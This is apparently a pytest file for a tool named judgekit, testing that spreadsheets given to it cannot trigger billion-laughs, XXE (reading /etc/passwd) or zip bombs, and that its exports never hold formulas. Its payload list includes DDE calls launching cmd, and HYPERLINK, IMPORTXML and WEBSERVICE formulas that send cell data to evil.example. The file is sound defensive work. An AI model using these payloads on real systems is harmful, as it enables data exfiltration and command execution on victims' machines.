"""A workbook that somebody hands over: no bomb in it goes off, and none of our own cells is a formula."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest

from judgekit.display import cell
from judgekit.errors import InputError
from judgekit.readers import read_labels
from judgekit.readers.label_tools import excel
from tests.cli.calling import judgekit
from tests.export.made import SURE, folder, result

pytest.importorskip("openpyxl")
pytestmark = pytest.mark.timeout(60)  # a bomb takes hours

HEAD = ["id", "model", "method", "rubric", "label"]

FORMULAS = (
    "=1+1",
    "=cmd|'/C calc'!A0",
    "+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    '=IMPORTXML(CONCAT("https://evil.example/?v=",A1),"//a")',
    '=WEBSERVICE("https://evil.example/"&A1)',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "'=1+1",
    "''=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    '=DDE("cmd";"/C calc";"x")',
    "-1",
    "+1 555 0100",
)


def workbook(path: Path, sheet: str, *, doctype: str = "", strings: str = "", more: bytes = b"") -> Path:
    """The smallest workbook that openpyxl opens, with this XML as its sheet's rows."""
    main = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    parts = {
        "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.'
        'spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/'
        'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/><Override PartName="/xl/sharedStrings.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
        "_rels/.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r1" Type="{rel}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'<workbook {main} xmlns:r="{rel}"><sheets><sheet name="items" sheetId="1" r:id="r1"/>'
        "</sheets></workbook>",
        "xl/_rels/workbook.xml.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        f'relationships"><Relationship Id="r1" Type="{rel}/worksheet" Target="worksheets/sheet1.xml"/>'
        f'<Relationship Id="r2" Type="{rel}/sharedStrings" Target="sharedStrings.xml"/></Relationships>',
        "xl/sharedStrings.xml": f"{doctype}<sst {main}>{strings}</sst>",
        "xl/worksheets/sheet1.xml": f'{doctype}<worksheet {main}><dimension ref="A1:XFD1048576"/><sheetData>'
        f"{sheet}</sheetData></worksheet>",
    }
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
        if more:
            archive.writestr("xl/media/image.png", more)
    return path


def row(number: int, texts: list[str], first: int = 0) -> str:
    """A row of inline texts."""
    cells = "".join(
        f'<c r="{column(first + at)}{number}" t="inlineStr"><is><t>{text}</t></is></c>'
        for at, text in enumerate(texts)
    )
    return f'<row r="{number}">{cells}</row>'


def column(number: int) -> str:
    """The letters of a column."""
    letters = ""
    number += 1
    while number:
        number, rest = divmod(number - 1, 26)
        letters = chr(65 + rest) + letters
    return letters


LAUGHS = (
    "<!DOCTYPE x [<!ENTITY a0 'ha'>"
    + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 12))
    + "]>"
)
OUTSIDE = "<!DOCTYPE x [<!ENTITY a11 SYSTEM 'file:///etc/passwd'>]>"
SIMPLE = row(1, HEAD) + row(2, ["a", "m", "x", "forgetting", "leaked"])


def test_a_small_workbook_made_by_hand_is_read(tmp_path: Path) -> None:
    [label] = read_labels(workbook(tmp_path / "w.xlsx", SIMPLE))
    assert (label.id, label.label) == ("a", "leaked")


@pytest.mark.parametrize("doctype", [LAUGHS, OUTSIDE], ids=["billion laughs", "a file outside"])
@pytest.mark.parametrize("where", ["sheet", "strings"])
def test_entities_are_not_expanded(tmp_path: Path, doctype: str, where: str) -> None:
    texts = {"sheet": SIMPLE, "strings": ""}
    texts[where] += row(3, ["&a11;"]) if where == "sheet" else "<si><t>&a11;</t></si>"
    path = workbook(tmp_path / "w.xlsx", texts["sheet"], doctype=doctype, strings=texts["strings"])
    with pytest.raises(InputError, match="cannot be read") as error:
        list(read_labels(path))
    assert "root:" not in str(error.value) and "haha" not in str(error.value)


def test_a_workbook_that_unpacks_without_end_is_refused_unread(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(excel, "LARGEST", 1 << 22)
    path = workbook(tmp_path / "w.xlsx", SIMPLE, more=b"\0" * (1 << 23))
    assert path.stat().st_size < 1 << 15
    with pytest.raises(InputError, match="holds more than 4 MB; save the sheet as CSV"):
        list(read_labels(path))


def test_a_sheet_as_wide_and_long_as_excel_allows_takes_no_time(tmp_path: Path) -> None:
    """It says that it has 16,384 columns and 1,048,576 rows; one row at its end does."""
    far = row(3, ["x"], first=16_383) + row(1_048_576, ["x"], first=16_383)
    [label] = read_labels(workbook(tmp_path / "w.xlsx", SIMPLE + far))
    assert label.id == "a"
    wide = row(1, [*HEAD, *(f"c{n}" for n in range(300))])
    with pytest.raises(InputError, match="no more than 256 columns"):
        list(read_labels(workbook(tmp_path / "wide.xlsx", wide)))


def starts_a_formula(text: str) -> bool:
    """Whether a spreadsheet calculates a cell of a CSV file (OWASP, CSV injection)."""
    return text.lstrip(" ")[:1] in tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")


def test_no_sheet_table_or_workbook_calculates_what_an_output_says(tmp_path: Path) -> None:
    assert not any(starts_a_formula(cell(text)) for text in FORMULAS)
    run = folder(
        tmp_path / "run",
        [
            result(name, SURE, question=text, output=text, model=name, method=name, split=name)
            for text, name in ((text, f"{text.strip()} {n}") for n, text in enumerate(FORMULAS))
        ],
    )
    for name in ("queue.csv", "queue.xlsx"):
        done = judgekit("queue", run, "--rubric", "forgetting", "--of", "items", "-o", name, cwd=tmp_path)
        assert done.returncode == 0, done.stderr
    rows = list(csv.reader(io.StringIO((tmp_path / "queue.csv").read_bytes().decode(), newline="")))
    assert len(rows) > 15, "one output a question, and blanks make no other question"
    assert not [one for line in rows for one in line if one and starts_a_formula(one)]
    assert judgekit("export", run, "table.xlsx", cwd=tmp_path).returncode == 0
    assert judgekit("report", run, "--csv", "report.csv", cwd=tmp_path).returncode == 0
    rows = list(csv.reader(io.StringIO((tmp_path / "report.csv").read_bytes().decode(), newline="")))
    texts = [one for line in rows for one in line if not re.fullmatch(r"[-+]?[\d.]+(e[-+]\d+)?", one)]
    assert not [one for one in texts if one and starts_a_formula(one)]
    for name in ("queue.xlsx", "table.xlsx"):
        with zipfile.ZipFile(tmp_path / name) as archive:
            sheets = [archive.read(part).decode() for part in archive.namelist() if "worksheets/" in part]
        assert sheets and not any("<f>" in sheet or "<f " in sheet for sheet in sheets)
        assert all("hyperlink" not in sheet for sheet in sheets)
